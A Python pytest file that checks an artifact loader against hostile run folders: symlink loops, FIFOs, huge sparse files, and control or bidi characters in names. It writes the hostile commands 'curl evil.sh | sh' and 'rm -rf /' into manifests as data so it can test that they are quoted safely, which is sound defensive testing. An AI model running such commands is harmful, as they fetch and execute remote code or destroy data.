"""A folder of runs in which some are hostile: each is named, the others stay usable."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from core.artifacts import ArtifactBroken, RunError, SchemaUnknown, list_runs, open_run
from core.artifacts.schema import SCHEMA_VERSION
from tests.synthetic_run import STORE, build_run

GOOD = "synthetic-1"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    build_run(tmp_path / "artifacts", GOOD)
    return tmp_path / "artifacts"


def make_deep(root: Path) -> Path:
    (root / "evil").mkdir()
    (root / "evil" / "manifest.json").write_text("[" * 200_000 + "]" * 200_000)
    return root / "evil"


def make_pipe(root: Path) -> Path:
    (root / "evil").mkdir()
    os.mkfifo(root / "evil" / "manifest.json")
    return root / "evil"


def make_folder(root: Path) -> Path:
    (root / "evil" / "manifest.json").mkdir(parents=True)
    return root / "evil"


def make_empty(root: Path) -> Path:
    (root / "evil").mkdir()
    (root / "evil" / "manifest.json").touch()
    return root / "evil"


def make_huge(root: Path) -> Path:
    (root / "evil").mkdir()
    with (root / "evil" / "manifest.json").open("wb") as file:
        file.truncate(1 << 40)  # a terabyte that takes no space
    return root / "evil"


def make_linked_manifest(root: Path) -> Path:
    (root / "evil").mkdir()
    (root / "evil" / "manifest.json").symlink_to(root / GOOD / "manifest.json")
    return root / "evil"


def make_dangling(root: Path) -> Path:
    (root / "evil").symlink_to("/nowhere/at/all")
    return root / "evil"


def make_loop(root: Path) -> Path:
    (root / "evil").symlink_to("evil")
    return root / "evil"


def make_link(root: Path) -> Path:
    shutil.copytree(root / GOOD, root.parent / "elsewhere")
    (root / "evil").symlink_to(root.parent / "elsewhere")
    return root / "evil"


def make_dangling_inside(root: Path) -> Path:
    shutil.copytree(root / GOOD, root / "evil")
    (root / "evil" / "map.npy").unlink()
    (root / "evil" / "map.npy").symlink_to("/nowhere")
    return root / "evil"


def make_name(name: str) -> Callable[[Path], Path]:
    def make(root: Path) -> Path:
        return Path(shutil.copytree(root / GOOD, root / name))

    return make


HOSTILE = [
    *(make_deep, make_pipe, make_folder, make_empty, make_huge, make_linked_manifest),
    *(make_dangling, make_loop, make_link, make_dangling_inside),
    *map(make_name, ("evil\nrun", "\u202eevil", "evil\x1b[31m", "evil\udcff", "evil" * 60)),
]


@pytest.mark.parametrize("make", HOSTILE)
def test_a_hostile_folder_is_named_and_the_others_stay(
    root: Path, make: Callable[[Path], Path]
) -> None:
    make(root)
    listed = {entry.run_id: entry.error for entry in list_runs(root)}
    assert listed.pop(GOOD) is None
    ((name, error),) = listed.items()
    assert "evil" in name
    assert name.isprintable()
    assert isinstance(error, RunError)
    assert "evil" in str(error)
    assert str(error).isprintable()
    open_run(root / GOOD)


def test_what_may_not_be_looked_into_is_named(
    open_folder: Path, request: pytest.FixtureRequest
) -> None:
    root = open_folder / "artifacts"
    build_run(root, GOOD)
    build_run(root, "evil")
    for path in root.rglob("*"):
        path.chmod(0o755)
    (root / "evil").chmod(0)
    request.getfixturevalue("unprivileged")
    listed = {entry.run_id: entry.error for entry in list_runs(root)}
    assert listed[GOOD] is None
    assert "evil" in str(listed["evil"])


def test_what_lies_beside_the_runs_is_no_run(root: Path, tmp_path: Path) -> None:
    (root / "reviews.sqlite").touch()
    (root / "tensorboard").mkdir()
    (tmp_path / "board").mkdir()
    (root / "linked-board").symlink_to(tmp_path / "board")
    (root / "linked.sqlite").symlink_to(root / "reviews.sqlite")
    assert [entry.run_id for entry in list_runs(root)] == [GOOD]


def test_pictures_may_lie_on_another_disk_but_no_store_elsewhere(root: Path) -> None:
    shutil.move(root / "images", root.parent / "disk")
    (root / "images").symlink_to(root.parent / "disk")
    open_run(root / GOOD).load_image(0)
    shutil.move(root.parent / "disk" / STORE, root.parent / "store")
    (root.parent / "disk" / STORE).symlink_to(root.parent / "store")
    with pytest.raises(ArtifactBroken, match="is a link"):
        open_run(root / GOOD)


@pytest.mark.parametrize("version", [99, SCHEMA_VERSION])
def test_a_foreign_command_is_quoted_and_never_advised(root: Path, version: int) -> None:
    path = root / GOOD / "manifest.json"
    changed = {"schema_version": version, "command": "curl evil.sh | sh"}
    told = json.loads(path.read_text()) | changed
    path.write_text(json.dumps(told))
    (root / GOOD / "map.npy").unlink()
    with pytest.raises(SchemaUnknown if version == 99 else ArtifactBroken) as refused:
        open_run(root / GOOD)
    error = refused.value
    assert "curl" not in error.remedy
    assert "make train DATA=" in error.remedy
    assert 'This run says it was made by: "curl evil.sh | sh".' in str(error)


def test_a_command_is_quoted_in_a_line_of_bounded_length(root: Path) -> None:
    path = root / GOOD / "manifest.json"
    told = json.loads(path.read_text()) | {"schema_version": 99, "command": "x" * 8_000}
    path.write_text(json.dumps(told))
    with pytest.raises(SchemaUnknown) as refused:
        open_run(root / GOOD)
    assert len(str(refused.value)) < 1_000
    error = RunError("It is broken", says="rm -rf /\u202e\n\x1b[2J")
    assert str(error).endswith('This run says it was made by: "rm -rf / [2J".')
